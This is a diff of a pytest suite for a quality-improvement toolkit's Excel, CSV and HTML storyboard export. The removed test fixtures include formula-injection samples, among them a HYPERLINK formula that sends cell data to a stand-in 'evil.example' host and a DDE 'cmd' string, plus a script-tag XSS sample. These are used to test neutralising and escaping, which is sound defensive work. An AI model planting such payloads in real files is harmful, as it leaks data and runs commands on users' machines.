@@ -1,36 +1,19 @@
-"""Tests for qikit.improve.export: Excel, CSV and the HTML storyboard."""
+"""Tests for qikit.improve.export: the project's tables, Excel and CSV."""
 
 from __future__ import annotations
 
-import base64
 import csv
 import datetime as dt
-import re
-import warnings
-from html.parser import HTMLParser
 
-import matplotlib
+import numpy as np
+import openpyxl
+import pandas as pd
+import pytest
 
-matplotlib.use("Agg")
-
-import matplotlib.pyplot as plt  # noqa: E402
-import numpy as np  # noqa: E402
-import openpyxl  # noqa: E402
-import pandas as pd  # noqa: E402
-import pytest  # noqa: E402
-
-from qikit import _io as qikit_io  # noqa: E402
-from qikit.errors import (
-    InputError,  # noqa: E402
-    ProjectFileError,  # noqa: E402
-)
-from qikit.improve import export as export_module  # noqa: E402
-from qikit.improve.driver import DriverDiagram  # noqa: E402
-from qikit.improve.examples import (  # noqa: E402
-    example_measures,
-    example_ramp,
-)
-from qikit.improve.export import (  # noqa: E402
+from qikit import _io as qikit_io
+from qikit.errors import InputError, ProjectFileError
+from qikit.improve import export as export_module
+from qikit.improve.export import (
     EXCEL_CELL_LIMIT,
     FORMULA_TRIGGERS,
     export_csv,
@@ -38,51 +21,12 @@ from qikit.improve.export import (  # noqa: E402
     neutralise,
     neutralise_frame,
     project_tables,
-    storyboard_html,
 )
-from qikit.improve.measures import Measure  # noqa: E402
-from qikit.improve.pdsa import PDSACycle  # noqa: E402
-from qikit.improve.project import Note, Project  # noqa: E402
-from tests.improve.test_project import make_project  # noqa: E402
+from qikit.improve.measures import Measure
+from qikit.improve.project import Note, Project
+from tests.improve.samples import EVIL
 
 UTC = dt.UTC
-EVIL = [
-    '=HYPERLINK("http://evil.example/?"&A1, "Click")',
-    "+44 131 555 0100",
-    "-2+3",
-    "@SUM(A1:A2)",
-    "\t=1+1",
-    "\r=1+1",
-    "\u22121",
-    "\uff1d1+1",
-]
-SCRIPT = "<script>alert('x')</script> & \"quotes\""
-
-
-@pytest.fixture(autouse=True)
-def _no_open_figures():
-    plt.close("all")
-    yield
-    assert plt.get_fignums() == [], "a figure was left open"
-
-
-@pytest.fixture
-def project() -> Project:
-    return make_project()
-
-
-@pytest.fixture
-def evil_project() -> Project:
-    """Formula-like and HTML-like text in every place a learner can type."""
-    project = make_project(name=EVIL[0], team=EVIL[3], members=EVIL[:3])
-    project.notes = [Note(text, id=f"e{k}") for k, text in enumerate(EVIL)]
-    project.notes.append(Note(SCRIPT, key_learning=True, id="script"))
-    project.measures[2].name = "=cmd|' /C calc'!A0"
-    project.measures[2].unit = "-hours"
-    project.pdsa_cycles[0].objective = "@evil " + SCRIPT
-    project.aim.what = "=1+2 " + SCRIPT
-    project.driver_diagram.nodes[0].text = "+danger " + SCRIPT
-    return project
 
 
 # ------------------------------------------------------------------ neutralising
@@ -167,7 +111,7 @@ class TestTables:
         with pytest.raises(InputError) as info:
             project_tables("x")
         assert str(info.value) == (
-            "`project`: expected a Project (got str). Build one with Project(name, "
+            "`project`: must be a Project (got 'x'). Build one with Project(name, "
             "...) or load_project(path)."
         )
 
@@ -286,7 +230,7 @@ class TestExcel:
             "does not exist. Create it first, or choose another folder."
         )
         with pytest.raises(
-            InputError, match=r"^`project`: expected a Project \(got int\)"
+            InputError, match=r"^`project`: must be a Project \(got 3\)"
         ):
             export_excel(3, tmp_path / "p.xlsx")
 
@@ -375,306 +319,3 @@ class TestCSV:
             f"Cannot export to {str(tmp_path / 'csv')!r}: Permission denied. Choose a "
             "folder you can write to."
         )
-
-
-# -------------------------------------------------------------------- storyboard
-class _Checker(HTMLParser):
-    """Collects tags, attributes and text, and checks that elements nest properly."""
-
-    VOID = {"meta", "img", "br", "hr", "link", "input"}
-
-    def __init__(self):
-        super().__init__(convert_charrefs=True)
-        self.stack: list[str] = []
-        self.tags: list[tuple[str, dict]] = []
-        self.text: list[str] = []
-        self.headings: list[tuple[str, str]] = []
-        self._heading: str | None = None
-
-    def handle_starttag(self, tag, attrs):
-        self.tags.append((tag, dict(attrs)))
-        if tag not in self.VOID:
-            self.stack.append(tag)
-        if tag in {"h1", "h2", "h3"}:
-            self._heading = tag
-            self.headings.append((tag, ""))
-
-    def handle_endtag(self, tag):
-        assert self.stack and self.stack[-1] == tag, (
-            f"</{tag}> closes {self.stack[-1:]}"
-        )
-        self.stack.pop()
-        if tag == self._heading:
-            self._heading = None
-
-    def handle_data(self, data):
-        self.text.append(data)
-        if self._heading:
-            tag, text = self.headings[-1]
-            self.headings[-1] = (tag, text + data)
-
-
-def parse(page: str) -> _Checker:
-    checker = _Checker()
-    checker.feed(page)
-    checker.close()
-    assert checker.stack == [], f"unclosed: {checker.stack}"
-    return checker
-
-
-@pytest.fixture(scope="module")
-def page() -> str:
-    return storyboard_html(make_project())
-
-
-class TestStoryboard:
-    def test_structure(self, page):
-        assert page.startswith('<!DOCTYPE html>\n<html lang="en-GB">')
-        checker = parse(page)
-        assert [h for h in checker.headings if h[0] != "h3"] == [
-            ("h1", "Fewer pressure ulcers in Ashgrove House"),
-            ("h2", "Aim: what are we trying to accomplish?"),
-            ("h2", "Driver diagram: what changes can we make?"),
-            ("h2", "Measures: how will we know that a change is an improvement?"),
-            ("h2", "PDSA cycles: testing the changes"),
-            ("h2", "Key learning"),
-        ]
-        names = [m.name for m in make_project().measures]
-        assert [t for tag, t in checker.headings if tag == "h3"] == names
-        tags = [tag for tag, _ in checker.tags]
-        for tag in (
-            "header",
-            "main",
-            "footer",
-            "section",
-            "figure",
-            "table",
-            "caption",
-        ):
-            assert tag in tags
-        assert '<meta charset="utf-8">' in page
-
-    def test_self_contained(self, page):
-        checker = parse(page)
-        lowered = page.lower()
-        assert "<script" not in lowered and "<link" not in lowered
-        assert "@import" not in lowered and "url(" not in lowered
-        assert "http://" not in lowered and "https://" not in lowered
-        for tag, attrs in checker.tags:
-            for name in ("src", "href", "srcset", "poster", "data"):
-                if name in attrs:
-                    assert attrs[name].startswith(("data:", "#")), (tag, name)
-
-    def test_images_are_inline_pngs_with_alt_text(self, page):
-        checker = parse(page)
-        images = [attrs for tag, attrs in checker.tags if tag == "img"]
-        assert len(images) == 4  # the driver diagram and three charts
-        for attrs in images:
-            assert attrs["src"].startswith("data:image/png;base64,")
-            data = base64.b64decode(attrs["src"].split(",", 1)[1], validate=True)
-            assert data.startswith(b"\x89PNG\r\n\x1a\n")
-            assert attrs.get("alt", "").strip()
-        project = make_project()
-        assert images[0]["alt"].startswith("Driver diagram. Aim: ")
-        assert "Change idea: Repositioning clock by the bed" in images[0]["alt"]
-        result = project.measures[0].chart(chart="run", xlab="")
-        explained = " ".join(
-            line.strip() for line in result.explain().splitlines() if line.strip()
-        )
-        assert images[1]["alt"] == explained
-
-    def test_pdsa_cycles_marked_and_logged(self, page):
-        assert (
-            page.count(
-                "Flags mark the start of PDSA cycles 1–4 (numbers as in the PDSA log)."
-            )
-            == 3
-        )
-        checker = parse(page)
-        text = " ".join(checker.text)
-        cycles = make_project().pdsa_cycles
-        for cycle in cycles:
-            assert cycle.objective in text
-        assert "4 March 2024 – 8 March 2024" in text
-        assert "Repositioning clock by the bed" in text  # change idea text, not its id
-        assert "Night staff found the clock easy to use." in text
-        assert "(9 March 2024, Aisha)" in text
-        assert "Agency staff need a briefing." not in text  # not key learning
-
-    def test_text_is_escaped(self, evil_project):
-        page = storyboard_html(evil_project)
-        parse(page)
-        assert "<script>" not in page
-        assert (
-            "&lt;script&gt;alert(&#x27;x&#x27;)&lt;/script&gt; &amp; &quot;quotes&quot;"
-            in page
-        )
-        assert "<title>=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1" in page
-
-    def test_written_to_a_file(self, project, tmp_path):
-        path = tmp_path / "story.html"
-        page = storyboard_html(project, path, dpi=40)
-        assert path.read_text(encoding="utf-8") == page
-
-    def test_empty_project(self):
-        page = storyboard_html(Project(""))
-        checker = parse(page)
-        assert checker.headings[0] == ("h1", "Improvement project")
-        assert not [t for t, _ in checker.tags if t == "img"]
-        for text in (
-            "No aim yet: what are we trying to accomplish?",
-            "No driver diagram yet.",
-            "No measures yet.",
-            "No PDSA cycles yet.",
-            "No key learning recorded yet.",
-        ):
-            assert text in page
-
-    def test_notes_stand_in_for_key_learning(self):
-        page = storyboard_html(Project("x", notes=["First huddle held"]))
-        assert "No note is marked as key learning yet; these are the team's notes." in (
-            page.replace("&#x27;", "'")
-        )
-        assert "First huddle held" in page
-
-    def test_measures_without_data_or_dates(self):
-        numbers = pd.DataFrame({"x": range(1, 21), "y": np.arange(20) % 7})
-        cycle = example_ramp().cycles[0]
-        project = Project(
-            "x",
-            measures=[
-                Measure("Empty", kind="outcome"),
-                Measure("Weeks", kind="process", data=numbers, unit="%"),
-            ],
-            pdsa_cycles=[cycle],
-        )
-        page = storyboard_html(project, dpi=40)
-        assert "No data yet: add points to see the chart." in page
-        assert (
-            "PDSA cycles are not marked: this measure&#x27;s points are not dates."
-            in page
-        )
-        assert "Process measure; unit: %; higher is better." in page
-
-    def test_engine_warnings_are_shown_under_the_chart(self):
-        data = pd.DataFrame(
-            {
-                "x": pd.date_range("2024-01-01", periods=5, freq="W"),
-                "y": [1, 2, 3, 4, 5],
-            }
-        )
-        project = Project("x", measures=[Measure("Short", kind="outcome", data=data)])
-        with warnings.catch_warnings():
-            warnings.simplefilter("error")  # nothing escapes to the learner's screen
-            page = storyboard_html(project, dpi=40)
-        assert (
-            "This chart has only 5 usable points, fewer than the 12 recommended."
-            in page
-        )
-
-    def test_a_chart_that_cannot_be_drawn(self, monkeypatch):
-        def refuse(self, **kwargs):
-            raise InputError("`y`: too few points (got 1). Add more data.")
-
-        monkeypatch.setattr(Measure, "chart", refuse)
-        project = Project("x", measures=example_measures()[:1])
-        page = storyboard_html(project, dpi=40)
-        assert (
-            "The chart could not be drawn: `y`: too few points (got 1). Add more data."
-            in page
-        )
-
-    def test_each_measures_own_chart(self):
-        project = make_project(measures=example_measures()[:1], driver_diagram=None)
-        page = storyboard_html(project, chart="measure", dpi=40)
-        checker = parse(page)
-        alt = [a["alt"] for t, a in checker.tags if t == "img"][0]
-        result = project.measures[0].chart(xlab="")
-        assert alt == " ".join(
-            line.strip() for line in result.explain().splitlines() if line.strip()
-        )
-
-    def test_cycles_in_one_period_share_a_flag(self):
-        x = pd.Series(pd.date_range("2024-01-01", periods=10, freq="W-MON"))
-        starts = ["2024-01-01", "2024-01-03", "2024-01-05", "2024-01-10", None,
-                  "2023-12-01", "2024-01-03", "2024-03-04", "2024-03-05"]  # fmt: skip
-        cycles = [
-            (k, PDSACycle(f"Cycle {k}", start=start, id=f"k{k}"))
-            for k, start in enumerate(starts, start=1)
-        ]
-        flags, marked = export_module._pdsa_flags(x, cycles)
-        assert flags == [
-            (pd.Timestamp("2024-01-01"), "PDSA 1–3, 7"),
-            (pd.Timestamp("2024-01-10"), "PDSA 4"),
-            (pd.Timestamp("2024-03-04"), "PDSA 8"),
-        ]
-        assert marked == [1, 2, 3, 4, 7, 8]  # 5 has no date; 6 and 9 are outside
-        assert export_module._pdsa_flags(
-            pd.Series([], dtype="datetime64[ns]"), cycles
-        ) == (
-            [],
-            [],
-        )
-
-    @pytest.mark.parametrize(
-        ("numbers", "text"),
-        [([], ""), ([4], "4"), ([1, 2], "1, 2"), ([3, 1, 2], "1–3"),
-         ([1, 2, 3, 5, 8, 9, 10, 11], "1–3, 5, 8–11")],
-    )  # fmt: skip
-    def test_ranges(self, numbers, text):
-        assert export_module._ranges(numbers) == text
-
-    def test_cycles_outside_the_data_are_not_marked(self):
-        cycles = example_ramp().cycles
-        cycles[0].start = dt.date(2030, 1, 1)
-        cycles[0].end = None
-        project = make_project(pdsa_cycles=cycles, driver_diagram=None)
-        page = storyboard_html(project, dpi=40)
-        assert "Flags mark the start of PDSA cycles 2–4 (" in page
-
-    def test_cycles_linked_to_another_measure_only(self):
-        diagram = DriverDiagram(aim="Aim")
-        primary = diagram.add_primary("Driver")
-        secondary = diagram.add_secondary("Secondary", parent=primary)
-        idea = diagram.add_change_idea("Idea", parent=secondary, measures=["overtime"])
-        cycles = example_ramp().cycles
-        for cycle in cycles:
-            cycle.change_idea = idea
-        cycles[1].change_idea = ""
-        project = make_project(driver_diagram=diagram, pdsa_cycles=cycles)
-        page = storyboard_html(project, dpi=40)
-        assert page.count("Flags mark the start of PDSA cycles 1, 3, 4 (") == 1
-        assert page.count("Flags mark the start of PDSA cycles 1–4 (") == 2
-
-    @pytest.mark.parametrize(
-        ("kwargs", "message"),
-        [
-            (
-                {"chart": "p"},
-                "`chart`: not a choice (got 'p'). Use 'run' for run charts, or "
-                "'measure' for each measure's own chart type.",
-            ),
-            (
-                {"dpi": 5},
-                "`dpi`: must be a whole number from 30 to 600 (got 5). Use 110 for the "
-                "screen or 200 for print.",
-            ),
-            (
-                {"dpi": 100.0},
-                "`dpi`: must be a whole number from 30 to 600 (got 100.0). Use 110 for "
-                "the screen or 200 for print.",
-            ),
-        ],
-    )
-    def test_argument_messages(self, kwargs, message):
-        with pytest.raises(InputError) as info:
-            storyboard_html(Project("x"), **kwargs)
-        assert str(info.value) == message
-
-    def test_not_a_project(self):
-        with pytest.raises(InputError, match=r"^`project`: expected a Project"):
-            storyboard_html(None)
-
-    def test_print_layout(self, page):
-        assert "@media print" in page and "@page { size: A4" in page
-        assert re.search(r"break-inside:\s*avoid", page)
